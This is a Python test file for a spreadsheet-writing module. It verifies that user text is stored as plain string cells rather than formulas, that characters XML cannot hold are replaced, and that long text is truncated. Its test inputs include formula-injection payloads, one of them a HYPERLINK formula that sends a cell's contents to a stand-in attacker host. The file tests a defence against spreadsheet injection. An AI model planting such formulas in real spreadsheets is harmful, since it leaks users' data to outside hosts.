"""kit.spreadsheets: text a person wrote is a string cell in the saved file, never a formula or
an error value, and characters XML cannot hold do not fail the save."""

from __future__ import annotations

import io
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from kit.spreadsheets import MAX_CELL_CHARS, REPLACEMENT, put, safe_text
from tests.support.workbooks import formulas

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&B2,"x")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "#N/A",
    "#DIV/0!",
    "=",
]


def saved(*values: object) -> bytes:
    book = Workbook()
    for row, value in enumerate(values, start=1):
        put(book.active, row, 1, value)
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


@pytest.mark.parametrize("read_only", [False, True])
def test_text_is_a_string_cell_whatever_it_starts_with(read_only: bool) -> None:
    data = saved(*HOSTILE)
    assert formulas(data) == []
    ws = load_workbook(io.BytesIO(data), read_only=read_only).active
    read = [(cell.value, cell.data_type) for (cell,) in ws.iter_rows(max_col=1)]
    assert read == [(text, "s") for text in HOSTILE]


def test_characters_xml_cannot_hold_are_shown_as_the_replacement() -> None:
    stored = "a\x00b\x0bc\x1fd\ud800e\ufffef\uffff"
    data = saved(stored, "tab\tline\nend", "Thẩm định 😀")
    ws = load_workbook(io.BytesIO(data)).active
    assert ws["A1"].value == REPLACEMENT.join("abcdef") + REPLACEMENT
    assert ws["A2"].value == "tab\tline\nend"
    assert ws["A3"].value == "Thẩm định 😀"


def test_other_values_keep_their_type_and_long_text_is_cut() -> None:
    data = saved(Decimal("114.27"), 7, True, date(2026, 1, 15), None, "", "x" * 40_000)
    ws = load_workbook(io.BytesIO(data)).active
    assert [ws.cell(r, 1).data_type for r in range(1, 5)] == ["n", "n", "b", "d"]
    assert ws["A1"].value == 114.27 and ws["A3"].value is True
    assert ws["A5"].value is None and ws["A6"].value is None
    assert len(ws["A7"].value) == MAX_CELL_CHARS
    assert safe_text("Sở Tư pháp") == "Sở Tư pháp"
